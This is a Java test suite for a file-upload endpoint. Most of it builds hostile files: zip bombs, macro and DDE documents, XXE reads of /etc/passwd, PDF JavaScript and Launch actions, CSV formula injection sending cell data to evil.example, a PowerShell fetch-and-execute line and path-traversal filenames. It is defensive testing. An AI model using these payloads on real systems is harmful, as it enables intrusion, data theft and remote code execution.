package org.touchstone.evidence;

import static java.nio.charset.StandardCharsets.UTF_16BE;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.touchstone.evidence.HostileFiles.PAGE;
import static org.touchstone.evidence.HostileFiles.PHP;
import static org.touchstone.evidence.HostileFiles.body;
import static org.touchstone.evidence.HostileFiles.bytes;
import static org.touchstone.evidence.HostileFiles.deflated;
import static org.touchstone.evidence.HostileFiles.excel;
import static org.touchstone.evidence.HostileFiles.external;
import static org.touchstone.evidence.HostileFiles.joined;
import static org.touchstone.evidence.HostileFiles.jpeg;
import static org.touchstone.evidence.HostileFiles.jpegWith;
import static org.touchstone.evidence.HostileFiles.marked;
import static org.touchstone.evidence.HostileFiles.nothing;
import static org.touchstone.evidence.HostileFiles.openDocument;
import static org.touchstone.evidence.HostileFiles.parts;
import static org.touchstone.evidence.HostileFiles.pdf;
import static org.touchstone.evidence.HostileFiles.pdfPacking;
import static org.touchstone.evidence.HostileFiles.png;
import static org.touchstone.evidence.HostileFiles.pngWith;
import static org.touchstone.evidence.HostileFiles.program;
import static org.touchstone.evidence.HostileFiles.relationship;
import static org.touchstone.evidence.HostileFiles.word;
import static org.touchstone.evidence.HostileFiles.zip;
import static org.touchstone.evidence.HostileFiles.zlib;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.path.json.JsonPath;
import jakarta.inject.Inject;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.function.Supplier;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import javax.imageio.ImageIO;
import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.touchstone.shared.security.Assignment.Target;
import org.touchstone.shared.security.Role;
import org.touchstone.testing.ApiTest;
import org.touchstone.testing.CaseFixture;
import org.touchstone.testing.World.TestPerson;
import org.touchstone.visit.VisitState;

/**
 * Files that want to do harm, one per line: each is refused in words or kept without its sting.
 * Bombs among them would need more memory than the test has, if anything unpacked them.
 */
@QuarkusTest
class HostileUploadsTest extends ApiTest {

    private static final HttpClient HTTP =
            HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
    private static final int LIMIT = 20 * 1024 * 1024;
    private static final long HUGE = 6L * 1024 * 1024 * 1024;
    private static final String TYPE = "FILE_TYPE_REFUSED";
    private static final String DAMAGED = "FILE_DAMAGED";
    private static final String ACTIVE = "FILE_ACTIVE";
    private static final String LOCKED = "FILE_LOCKED";
    private static final String UNFOLDS = "FILE_UNFOLDS_TOO_FAR";

    @Inject CaseFixture cases;

    @ConfigProperty(name = "touchstone.files")
    String store;

    @ConfigProperty(name = "quarkus.http.body.uploads-directory")
    Path uploads;

    private TestPerson nominee;
    private UUID visit;
    private Set<Path> storedBefore;
    private Set<Path> temporaryBefore;

    @BeforeEach
    void prepare() {
        var centre = world.centre();
        nominee = world.person(Role.CENTRE_CONTACT, Target.CENTRE, centre.centreId());
        var reviewer = world.person(Role.REVIEWER, Target.ENROLMENT, centre.enrolmentId());
        visit = cases.visit(centre, 2016, VisitState.IN_PROGRESS, reviewer);
        storedBefore = stored();
        temporaryBefore = temporary();
    }

    /** What the upload left among the temporary files goes with its answer, whatever that was. */
    @AfterEach
    void nothingIsLeft() {
        var until = System.nanoTime() + Duration.ofSeconds(10).toNanos();
        while (!temporaryBefore.containsAll(temporary()) && System.nanoTime() < until) {
            Thread.onSpinWait();
        }
        assertThat(temporary()).as("temporary files").isSubsetOf(temporaryBefore);
    }

    private Set<Path> stored() {
        return files(Path.of(store), "");
    }

    private Set<Path> temporary() {
        var found = files(uploads, "");
        files(Path.of(System.getProperty("java.io.tmpdir")), "touchstone").stream()
                .filter(file -> file.toString().matches(".*\\.(picture|pixels|part)"))
                .forEach(found::add);
        return found;
    }

    private static Set<Path> files(Path folder, String start) {
        if (!java.nio.file.Files.isDirectory(folder)) {
            return new TreeSet<>();
        }
        try (var all =
                java.nio.file.Files.find(
                        folder,
                        start.isEmpty() ? 5 : 1,
                        (path, facts) ->
                                facts.isRegularFile()
                                        && path.getFileName().toString().startsWith(start))) {
            return all.collect(Collectors.toCollection(TreeSet::new));
        } catch (IOException | java.io.UncheckedIOException vanished) {
            // Another file went while they were listed.
            return files(folder, start);
        }
    }

    private Answer send(String name, byte[] content) {
        return send(name, content, "application/pdf");
    }

    private Answer send(String name, byte[] content, String claimed) {
        var head =
                "--b0\r\nContent-Disposition: form-data; name=\"file\"; filename=\""
                        + name
                        + "\"\r\nContent-Type: "
                        + claimed
                        + "\r\n\r\n";
        return sendRaw(
                joined(
                        head.getBytes(UTF_8),
                        content,
                        bytes("\r\n" + description("") + "--b0--\r\n")));
    }

    private static String description(String more) {
        return "--b0\r\nContent-Disposition: form-data; name=\"request\"\r\nContent-Type: application/json\r\n\r\n"
                + "{\"title\": \"A file\", \"noLearnerWork\": true"
                + more
                + "}\r\n";
    }

    /** What came back, read without a library that would print megabytes of hostile bytes. */
    private record Answer(int status, String mediaType, String body) {

        <T> T path(String path) {
            return JsonPath.from(body).get(path);
        }
    }

    private Answer sendRaw(byte[] form) {
        var request =
                HttpRequest.newBuilder(
                                URI.create(
                                        "http://localhost:%d/api/v1/visits/%s/evidence/files"
                                                .formatted(RestAssured.port, visit)))
                        .header("Authorization", "Bearer " + nominee.token())
                        .header("Content-Type", "multipart/form-data; boundary=b0")
                        .POST(HttpRequest.BodyPublishers.ofByteArray(form))
                        .build();
        try {
            var answer = HTTP.send(request, HttpResponse.BodyHandlers.ofString());
            return new Answer(
                    answer.statusCode(),
                    answer.headers().firstValue("Content-Type").orElse(""),
                    answer.body());
        } catch (IOException hungUp) {
            assertThat(form.length).isGreaterThan(25 * 1024 * 1024);
            // The server does not listen to the end of what is far too long.
            return new Answer(413, "", "");
        } catch (InterruptedException e) {
            throw new IllegalStateException(e);
        }
    }

    private void requireRefused(Answer answer, String code) {
        assertThat(answer.status()).as(answer.body()).isBetween(400, 499);
        assertThat(answer.mediaType()).startsWith("application/problem+json");
        assertThat(answer.<String>path("code")).as(answer.body()).isEqualTo(code);
        assertThat(answer.<String>path("detail"))
                .as("a sentence that helps")
                .hasSizeGreaterThan(30);
        assertThat(answer.<String>path("detail")).matches("[\\p{L}\\p{N}\\p{P}\\p{S} ]+");
        requireNothingStored();
    }

    private void requireNothingStored() {
        assertThat(world.count("select count(*) from evidence where visit_id = ?1", visit))
                .isZero();
        assertThat(stored()).isEqualTo(storedBefore);
    }

    /** Comes back only as a file to be kept, whatever it says it is; answers its bytes. */
    private byte[] requireTame(Answer answer, String name, String mediaType) {
        assertThat(answer.status()).as(answer.body()).isEqualTo(201);
        assertThat(answer.<String>path("file.name")).isEqualTo(name);
        assertThat(answer.<String>path("file.mediaType")).isEqualTo(mediaType);
        var back = as(nominee).accept("*/*").get("/evidence/" + answer.path("id") + "/content");
        assertThat(back.statusCode()).isEqualTo(200);
        assertThat(back.contentType()).isEqualTo(mediaType);
        assertThat(back.header("Content-Disposition")).startsWith("attachment; ");
        assertThat(
                        back.header("Content-Disposition")
                                .chars()
                                .allMatch(one -> one >= ' ' && one < 127))
                .isTrue();
        assertThat(back.header("X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(back.headers().getValues("Content-Security-Policy"))
                .contains("default-src 'none'; sandbox");
        return back.asByteArray();
    }

    private static Arguments file(String name, String code, Supplier<byte[]> content) {
        return Arguments.of(name, code, content);
    }

    static Stream<Arguments> refused() {
        return Stream.of(
                        wrongMagic(),
                        programs(),
                        containers(),
                        documents(),
                        pages(),
                        pdfs(),
                        pictures(),
                        texts())
                .flatMap(each -> each);
    }

    private static Stream<Arguments> wrongMagic() {
        var noise = bytes(0, 1, 2, 3, 0xfe, 0xca, 7, 8, 9, 0x80, 0x81, 0x82, 0, 0, 0, 5);
        return Stream.of(
                        "pdf", "docx", "xlsx", "pptx", "odt", "ods", "odp", "jpg", "png", "csv",
                        "txt")
                .map(ending -> file("noise." + ending, TYPE, () -> noise));
    }

    private static Stream<Arguments> programs() {
        return Stream.of(
                file("setup.exe", TYPE, Files::program),
                file("minutes.pdf", TYPE, Files::program),
                file("minutes.docx", TYPE, Files::program),
                file("list.csv", TYPE, Files::program),
                file("photo.jpg", TYPE, () -> program(0x7f, 'E', 'L', 'F', 2, 1, 1)),
                file("photo.png", TYPE, () -> program(0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1)),
                file("note.txt", TYPE, () -> program(0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52)),
                file("minutes.pdf", TYPE, HostileFiles::shortcut),
                file("report.doc", TYPE, HostileFiles::compoundFile),
                file("setup.msi", TYPE, HostileFiles::compoundFile),
                file("run.txt", TYPE, () -> bytes("#!/bin/sh\nrm -rf ~\n")),
                file("run.txt", TYPE, () -> bytes("#!/usr/bin/env python3\nimport os\n")),
                file("page.js", TYPE, () -> bytes("fetch('/api/v1/me')")),
                file("run.vbs", TYPE, () -> bytes("CreateObject(\"WScript.Shell\").Run \"calc\"")),
                file("run.bat", TYPE, () -> bytes("del *.*\r\n")),
                file("page.php", TYPE, () -> bytes(PHP)),
                file(
                        "tool.jar",
                        TYPE,
                        () ->
                                zip(
                                        parts(
                                                "META-INF/MANIFEST.MF",
                                                "Main-Class: Tool",
                                                "Tool.class",
                                                "x"))),
                file(
                        "tool.docx",
                        TYPE,
                        () -> zip(parts("META-INF/MANIFEST.MF", "Main-Class: Tool"))),
                file(
                        "tool.apk",
                        TYPE,
                        () -> zip(parts("AndroidManifest.xml", "x", "classes.dex", "x"))),
                file(
                        "book.epub",
                        TYPE,
                        () -> zip(parts("mimetype", "application/epub+zip", "a.xhtml", PAGE))));
    }

    private static Stream<Arguments> containers() {
        return Stream.of(
                file("archive.zip", TYPE, () -> zip(parts("a.txt", "a"))),
                file("archive.docx", TYPE, () -> zip(parts("a.txt", "a"))),
                file("empty.docx", TYPE, () -> zip(Map.of())),
                file("bomb.docx", UNFOLDS, () -> HostileFiles.wordUnfoldingTo(1L << 31)),
                file("high-ratio.docx", UNFOLDS, () -> HostileFiles.wordUnfoldingTo(300L << 20)),
                file("overlap.docx", UNFOLDS, () -> HostileFiles.overlapping(900, 1L << 20)),
                file("sizes.docx", DAMAGED, () -> HostileFiles.lyingAboutSizes(1L << 30)),
                file("parts.docx", UNFOLDS, () -> HostileFiles.wordOfManyParts(6_000)),
                file("zip64.docx", UNFOLDS, () -> HostileFiles.wordOfManyParts(70_000)),
                file("nested.docx", UNFOLDS, () -> HostileFiles.wordNested(6)),
                file(
                        "nested-bomb.docx",
                        UNFOLDS,
                        () ->
                                word(
                                        Map.of(
                                                "word/embeddings/a.docx",
                                                HostileFiles.wordUnfoldingTo(1L << 31)))),
                file("twice.docx", DAMAGED, HostileFiles::twiceTheSameName),
                file("locked.docx", DAMAGED, () -> HostileFiles.encrypted(word())),
                file("cut.docx", DAMAGED, () -> Arrays.copyOf(word(), word().length - 30)),
                file("climbs.docx", DAMAGED, () -> word("../../../etc/cron.d/x.xml", "<x/>")),
                file("absolute.docx", DAMAGED, () -> word("/etc/x.xml", "<x/>")),
                file("windows.docx", DAMAGED, () -> word("word\\..\\..\\x.xml", "<x/>")),
                file("prefixed.docx", TYPE, () -> joined(Files.program(), word())));
    }

    private static Stream<Arguments> documents() {
        return Stream.of(
                file("macro.docx", ACTIVE, () -> word("word/vbaProject.bin", "x")),
                file(
                        "renamed-macro.docx",
                        ACTIVE,
                        () -> word(Map.of("word/other.bin", HostileFiles.compoundFile()))),
                file(
                        "macro-type.docx",
                        ACTIVE,
                        () ->
                                word(
                                        "[Content_Types].xml",
                                        "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>")),
                file(
                        "macro-link.docx",
                        ACTIVE,
                        () ->
                                word(
                                        "word/_rels/document.xml.rels",
                                        relationship("vbaProject", "other.xml", false))),
                file(
                        "old-macro.xlsx",
                        ACTIVE,
                        () -> excel(parts("xl/macrosheets/sheet1.xml", "<x/>"))),
                file(
                        "template.docx",
                        ACTIVE,
                        () ->
                                word(
                                        "word/_rels/settings.xml.rels",
                                        relationship(
                                                "attachedTemplate",
                                                "https://evil.example/t.dotm",
                                                true))),
                file(
                        "template-share.docx",
                        ACTIVE,
                        () ->
                                word(
                                        "word/_rels/settings.xml.rels",
                                        relationship(
                                                "attachedTemplate",
                                                "file:///\\\\evil.example\\s\\t.dotx",
                                                true))),
                file(
                        "object.docx",
                        ACTIVE,
                        () ->
                                word(
                                        "word/_rels/document.xml.rels",
                                        relationship(
                                                "oleObject",
                                                "https://evil.example/x.html!",
                                                true))),
                file(
                        "ole.docx",
                        ACTIVE,
                        () ->
                                word(
                                        Map.of(
                                                "word/embeddings/oleObject1.bin",
                                                HostileFiles.compoundFile()))),
                file(
                        "tracking.docx",
                        ACTIVE,
                        () ->
                                word(
                                        "word/_rels/document.xml.rels",
                                        relationship("image", "https://evil.example/1.png", true))),
                file(
                        "chunk.docx",
                        ACTIVE,
                        () ->
                                word(
                                        "word/_rels/document.xml.rels",
                                        relationship("aFChunk", "page.mht", false))),
                file("page.docx", ACTIVE, () -> word("word/page.html", PAGE)),
                file(
                        "program.docx",
                        ACTIVE,
                        () -> word(Map.of("word/media/image1.png", Files.program()))),
                file("exe.docx", ACTIVE, () -> word(Map.of("word/tool.exe", Files.program()))),
                file(
                        "zip.docx",
                        ACTIVE,
                        () -> word(Map.of("word/media/image1.png", zip(parts("a.exe", "MZ"))))),
                file(
                        "link.docx",
                        ACTIVE,
                        () ->
                                word(
                                        "word/_rels/document.xml.rels",
                                        relationship(
                                                "hyperlink", "ms-msdt:/id PCWDiagnostic", true))),
                file(
                        "dde.docx",
                        ACTIVE,
                        () ->
                                word(
                                        HostileFiles.WORD,
                                        body(
                                                "<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\x</w:instrText></w:r>"))),
                file(
                        "dde.xlsx",
                        ACTIVE,
                        () ->
                                excel(
                                        parts(
                                                "xl/externalLinks/externalLink1.xml",
                                                "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>"))),
                file(
                        "entity.docx",
                        ACTIVE,
                        () -> word(HostileFiles.WORD, external("file:///etc/passwd"))),
                file(
                        "entity-web.xlsx",
                        ACTIVE,
                        () -> excel(parts("xl/workbook.xml", external("http://127.0.0.1:1/x")))),
                file("laughs.docx", ACTIVE, () -> word(HostileFiles.WORD, HostileFiles.laughs())),
                file(
                        "entity-utf16.docx",
                        ACTIVE,
                        () ->
                                word(
                                        Map.of(
                                                HostileFiles.WORD,
                                                marked(
                                                        0xff,
                                                        0xfe,
                                                        UTF_16LE,
                                                        external("file:///etc/passwd"))))),
                file("svg.docx", ACTIVE, () -> word("word/media/i.svg", "<svg><script/></svg>")),
                file("broken.docx", DAMAGED, () -> word(HostileFiles.WORD, "<w:document")),
                file("deep.docx", DAMAGED, () -> word(HostileFiles.WORD, "<a>".repeat(200_000))),
                file(
                        "macro.odt",
                        ACTIVE,
                        () -> openDocument("text", "Basic/Standard/M.xml", "<m/>")),
                file(
                        "script.odt",
                        ACTIVE,
                        () -> openDocument("text", "Scripts/python/x.py", "import os")),
                file(
                        "event.odp",
                        ACTIVE,
                        () ->
                                openDocument(
                                        "presentation",
                                        "content.xml",
                                        "<x xmlns:script=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\"><script:event-listener/></x>")),
                file(
                        "entity.ods",
                        ACTIVE,
                        () ->
                                openDocument(
                                        "spreadsheet",
                                        "content.xml",
                                        external("file:///etc/passwd"))),
                file(
                        "tracking.odt",
                        ACTIVE,
                        () ->
                                openDocument(
                                        "text",
                                        "content.xml",
                                        "<x xmlns:draw=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><draw:image xlink:href=\"http://evil.example/1.png\"/></x>")),
                file(
                        "locked.odt",
                        LOCKED,
                        () ->
                                openDocument(
                                        "text",
                                        "META-INF/manifest.xml",
                                        "<manifest><file-entry><encryption-data/></file-entry></manifest>")));
    }

    private static Stream<Arguments> pages() {
        return Stream.of(
                file(
                        "drawing.svg",
                        TYPE,
                        () -> bytes("<svg xmlns=\"http://www.w3.org/2000/svg\"/>")),
                file(
                        "drawing.png",
                        TYPE,
                        () ->
                                bytes(
                                        "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>")),
                file("drawing.svgz", TYPE, () -> bytes(0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 1, 2)),
                file("page.html", TYPE, () -> bytes(PAGE)),
                file("page.txt", TYPE, () -> bytes("<!DOCTYPE html>" + PAGE)),
                file("page.csv", TYPE, () -> bytes(PAGE)),
                file(
                        "page.xhtml",
                        TYPE,
                        () ->
                                bytes(
                                        "<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"/>")),
                file(
                        "page.mht",
                        TYPE,
                        () ->
                                bytes(
                                        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n"
                                                + PAGE)),
                file("page.xml", TYPE, () -> bytes(external("file:///etc/passwd"))),
                file("page.hta", TYPE, () -> bytes("<hta:application/>" + PAGE)),
                file("letter.rtf", TYPE, () -> bytes("{\\rtf1 {\\object\\objautlink}}")));
    }

    private static Stream<Arguments> pdfs() {
        var script = "1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj";
        return Stream.of(
                file("script.pdf", ACTIVE, () -> pdf(script)),
                file("spelled.pdf", ACTIVE, () -> pdf(script.replace("/JavaS", "/J#61va#53"))),
                file(
                        "packed.pdf",
                        ACTIVE,
                        () -> pdfPacking(deflated("1 0 " + script), "/Filter/FlateDecode")),
                file(
                        "packed-twice.pdf",
                        DAMAGED,
                        () -> pdfPacking(deflated(script), "/Filter[/ASCIIHexDecode/FlateDecode]")),
                file(
                        "predicted.pdf",
                        DAMAGED,
                        () ->
                                pdfPacking(
                                        deflated(script),
                                        "/Filter/FlateDecode/DecodeParms<</Predictor 12>>")),
                file(
                        "bomb.pdf",
                        UNFOLDS,
                        () -> pdfPacking(zlib(nothing(HUGE)), "/Filter/FlateDecode")),
                file(
                        "launch.pdf",
                        ACTIVE,
                        () -> pdf("1 0 obj<</OpenAction<</S/Launch/F(calc.exe)>>>>endobj")),
                file(
                        "embedded.pdf",
                        ACTIVE,
                        () -> pdf("1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj")),
                file("form.pdf", ACTIVE, () -> pdf("1 0 obj<</AcroForm<</XFA 2 0 R>>>>endobj")),
                file("media.pdf", ACTIVE, () -> pdf("1 0 obj<</Subtype/RichMedia>>endobj")),
                file(
                        "sends.pdf",
                        ACTIVE,
                        () -> pdf("1 0 obj<</S/SubmitForm/F(http://evil.example)>>endobj")),
                file("locked.pdf", LOCKED, () -> pdf("trailer<</Encrypt 9 0 R>>")),
                file("cut.pdf", DAMAGED, () -> Arrays.copyOf(Files.pdf(2000), 1000)),
                file(
                        "two-in-one.pdf",
                        TYPE,
                        () -> joined(Files.pdf(), zip(parts("tool.class", "x")))),
                file("two-in-one.docx", TYPE, () -> wordStartingLike("%PDF-1.4")),
                file("page.pdf", TYPE, () -> joined(bytes(PAGE), Files.pdf())));
    }

    /** A document with the head of another kind in the name of its first part. */
    private static byte[] wordStartingLike(String head) {
        var parts = parts(head + ".xml", "<x/>");
        parts.putAll(parts("[Content_Types].xml", "<Types/>", HostileFiles.WORD, "<x/>"));
        return zip(parts);
    }

    private static Stream<Arguments> pictures() {
        return Stream.of(
                file("bomb.png", DAMAGED, () -> HostileFiles.pngOf(60_000, 60_000)),
                file("bomb.jpg", DAMAGED, () -> HostileFiles.jpegOf(65_500, 65_500)),
                file("scans.jpg", DAMAGED, () -> HostileFiles.jpegOfManyScans(2_000)),
                file("cut.png", DAMAGED, () -> Arrays.copyOf(png(), 60)),
                file("cut.jpg", DAMAGED, () -> Arrays.copyOf(jpeg(), 100)),
                file("negative.png", DAMAGED, () -> pngWithLength(-5)),
                file("photo.gif", TYPE, () -> joined(bytes("GIF89a"), new byte[40])),
                file(
                        "gifar.jpg",
                        TYPE,
                        () -> joined(bytes("GIF89a"), new byte[40], zip(parts("A.class", "x")))),
                file("photo.bmp", TYPE, () -> Files.picture("bmp", 9, 9)),
                file("scan.tif", TYPE, () -> Files.picture("tiff", 9, 9)),
                file(
                        "photo.webp",
                        TYPE,
                        () -> joined(bytes("RIFF\u0024\0\0\0WEBPVP8 "), new byte[30])),
                file(
                        "photo.heic",
                        TYPE,
                        () -> joined(bytes(0, 0, 0, 24), bytes("ftypheic"), new byte[30])));
    }

    private static byte[] pngWithLength(int length) {
        var picture = png();
        java.nio.ByteBuffer.wrap(picture).putInt(8 + 25, length);
        return picture;
    }

    private static Stream<Arguments> texts() {
        return Stream.of(
                file("test.txt", "FILE_INFECTED", Files::eicar),
                file("test.pdf", "FILE_INFECTED", Files::eicar),
                file("test.csv", "FILE_INFECTED", () -> joined(Files.eicar(), bytes("\n\n"))),
                file("none.txt", "FILE_EMPTY", () -> new byte[0]),
                file("none.pdf", "FILE_EMPTY", () -> new byte[0]),
                file("dde.csv", ACTIVE, () -> bytes("a,b\n1,=cmd|' /C calc'!A0\n")),
                file("dde-plus.csv", ACTIVE, () -> bytes("a,b\n1,\"+cmd|' /C calc'!A0\"\n")),
                file("dde-at.csv", ACTIVE, () -> bytes("@SUM(1)*cmd|'/C calc'!A0,2\n")),
                file(
                        "fetch.csv",
                        ACTIVE,
                        () -> bytes("a;b\n=WEBSERVICE(\"http://evil.example/\"&A1);1\n")),
                file(
                        "link.csv",
                        ACTIVE,
                        () -> bytes("a\n=hyperlink(\"http://evil.example/?\"&A1,\"click\")\n")),
                file(
                        "fetch-marked.csv",
                        ACTIVE,
                        () -> joined(bytes(0xef, 0xbb, 0xbf), bytes("=IMPORTXML(\"http://x\")\n"))),
                file(
                        "dde-wide.csv",
                        ACTIVE,
                        () -> marked(0xff, 0xfe, UTF_16LE, "a,=cmd|'/C calc'!A0\n")),
                file(
                        "late.csv",
                        ACTIVE,
                        () -> bytes("a,b\n".repeat(9_000) + "1,=cmd|'/C calc'!A0\n")),
                file("nul.txt", TYPE, () -> bytes("minutes\0of\0June")),
                file(
                        "late-nul.txt",
                        DAMAGED,
                        () -> joined(bytes("minutes ".repeat(20_000)), new byte[50])),
                file("tail.txt", TYPE, () -> joined(bytes("minutes"), zip(parts("A.class", "x")))));
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("refused")
    @DisplayName("QMR-159 a hostile file is refused in words, and nothing of it stays")
    void refuses(String name, String code, Supplier<byte[]> content) {
        requireRefused(send(name, content.get()), code);
    }

    static Stream<Arguments> tamed() {
        return Stream.of(
                tamed("photo.jpg", () -> jpegWith(0xfe, PHP), "<?php"),
                tamed("photo.jpg", () -> jpegWith(0xe1, "Exif\0\0" + PAGE), "<script"),
                tamed(
                        "photo.jpg",
                        () -> jpegWith(0xe1, "http://ns.adobe.com/xap/1.0/\0" + PAGE),
                        "<script"),
                tamed("photo.jpg", () -> joined(jpeg(), bytes(PAGE)), "<script"),
                tamed("photo.jpg", () -> joined(jpeg(), zip(parts("A.class", "x"))), "A.class"),
                tamed("photo.jpg", () -> joined(jpeg(), Files.pdf()), "%PDF"),
                tamed("photo.jpg", Files::photoWithPlace, "51.5074"),
                tamed("plan.png", () -> joined(png(), bytes(PAGE)), "<script"),
                tamed("plan.png", () -> joined(png(), zip(parts("A.class", "x"))), "A.class"),
                tamed("plan.png", () -> pngWith(png(), "tEXt", bytes("Comment\0" + PHP)), "<?php"),
                tamed(
                        "plan.png",
                        () -> pngWith(png(), "iTXt", bytes("XML\0\0\0\0\0" + PAGE)),
                        "<script"),
                tamed("plan.png", () -> pngWith(png(), "eXIf", bytes("II*\0GPS 51.5")), "GPS"),
                tamed("plan.png", () -> pngWith(png(), "acTL", new byte[8]), "acTL"),
                tamed("plan.png", () -> HostileFiles.pngWithTextOf(HUGE), "zTXt"));
    }

    private static Arguments tamed(String name, Supplier<byte[]> content, String sting) {
        return Arguments.of(name, sting, content);
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("tamed")
    @DisplayName("QMR-159 a picture keeps its pixels and nothing else")
    void tames(String name, String sting, Supplier<byte[]> content) throws IOException {
        var mediaType = name.endsWith("png") ? "image/png" : "image/jpeg";
        var kept = requireTame(send(name, content.get()), name, mediaType);
        assertThat(new String(kept, StandardCharsets.ISO_8859_1)).doesNotContain(sting);
        assertThat(ImageIO.read(new ByteArrayInputStream(kept))).isNotNull();
    }

    static Stream<Arguments> inert() {
        var power = "Invoke-WebRequest evil.example | iex\r\n";
        var later = "Minutes\n".repeat(9_000) + PAGE;
        return Stream.of(
                Arguments.of("run.ps1", "run.ps1.txt", bytes(power)),
                Arguments.of("page.txt", "page.txt", bytes(later)),
                Arguments.of(
                        "x.url", "x.url.txt", bytes("[InternetShortcut]\r\nURL=file://evil\r\n")),
                Arguments.of(
                        "x.reg", "x.reg.txt", bytes("Windows Registry Editor Version 5.00\r\n")),
                Arguments.of("wide.txt", "wide.txt", marked(0xff, 0xfe, UTF_16LE, "Minutes, Zoë")),
                Arguments.of("wide.txt", "wide.txt", marked(0xfe, 0xff, UTF_16BE, "Minutes, Zoë")),
                Arguments.of("old.txt", "old.txt", bytes("Minutes, Zo\u00eb \u0093quoted\u0094")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("inert")
    @DisplayName("QMR-159 words stay words: kept to the byte, named .txt, never shown by a browser")
    void leavesWords(String name, String kept, byte[] content) {
        assertThat(requireTame(send(name, content), kept, "text/plain")).isEqualTo(content);
    }

    static Stream<Arguments> good() {
        return Stream.of(
                Arguments.of("minutes.pdf", "application/pdf", Files.pdf()),
                Arguments.of(
                        "packed.pdf",
                        "application/pdf",
                        pdfPacking(deflated("1 0 <</Type/Catalog>>"), "/Filter/FlateDecode")),
                Arguments.of("minutes.docx", FileType.WORD.mediaType(), word()),
                Arguments.of(
                        "linked.docx",
                        FileType.WORD.mediaType(),
                        word(
                                "word/_rels/document.xml.rels",
                                relationship("hyperlink", "https://www.example.org/a?b=c", true))),
                Arguments.of(
                        "house-style.docx",
                        FileType.WORD.mediaType(),
                        word(
                                "word/_rels/settings.xml.rels",
                                relationship(
                                        "attachedTemplate",
                                        "file:///C:\\Templates\\College.dotx",
                                        true))),
                Arguments.of(
                        "chart.docx",
                        FileType.WORD.mediaType(),
                        word(Map.of("word/embeddings/Sheet1.xlsx", excel(Map.of())))),
                Arguments.of("numbers.xlsx", FileType.EXCEL.mediaType(), excel(Map.of())),
                Arguments.of("slides.pptx", FileType.POWERPOINT.mediaType(), HostileFiles.slides()),
                Arguments.of("a.odt", FileType.TEXT_DOCUMENT.mediaType(), openDocument("text")),
                Arguments.of(
                        "a.ods", FileType.SPREADSHEET.mediaType(), openDocument("spreadsheet")),
                Arguments.of(
                        "a.odp", FileType.PRESENTATION.mediaType(), openDocument("presentation")),
                Arguments.of("photo.jpg", "image/jpeg", jpeg()),
                Arguments.of("photo.jpeg", "image/jpeg", jpeg()),
                Arguments.of("plan.png", "image/png", png()),
                Arguments.of("plan.png", "image/png", HostileFiles.pngWithPalette()),
                Arguments.of("note.txt", "text/plain", "Minutes, Zoë présente ✓".getBytes(UTF_8)),
                Arguments.of(
                        "list.csv",
                        "text/csv",
                        "unit,total\n+44 20,-5\n\"=SUM(B2:B9)\",3\n@home,a|b\n".getBytes(UTF_8)));
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("good")
    @DisplayName("QMR-159 good files of every type are kept; lists and documents to the byte")
    void acceptsGood(String name, String mediaType, byte[] content) {
        var kept = requireTame(send(name, content), name, mediaType);
        if (!mediaType.startsWith("image/")) {
            assertThat(kept).isEqualTo(content);
        }
    }

    static Stream<Arguments> names() {
        return Stream.of(
                Arguments.of("../../etc/passwd.pdf", "passwd.pdf"),
                Arguments.of("..\\..\\windows\\system.pdf", "system.pdf"),
                Arguments.of("/etc/shadow", "shadow.pdf"),
                Arguments.of("C:\\autoexec.bat", "autoexec.bat.pdf"),
                Arguments.of("n".repeat(3_000) + ".pdf", "n".repeat(75) + ".pdf"),
                Arguments.of("é".repeat(500) + ".pdf", "é".repeat(75) + ".pdf"),
                Arguments.of("invoice\u202Efdp.exe", "invoicefdp.exe.pdf"),
                Arguments.of("a\u200Bb\uFEFFc\u2066.pdf", "abc.pdf"),
                Arguments.of("CON", "_CON.pdf"),
                Arguments.of("nul.pdf", "_nul.pdf"),
                Arguments.of("COM1.tar.pdf", "_COM1.tar.pdf"),
                Arguments.of("a\u0007b\u001Bc.pdf", "abc.pdf"),
                Arguments.of("report.pdf\u0000.exe", "report.pdf.exe.pdf"),
                Arguments.of("..", "file.pdf"),
                Arguments.of(".htaccess", "htaccess.pdf"),
                Arguments.of("   ", "file.pdf"),
                Arguments.of("😀 plan.pdf", "😀 plan.pdf"),
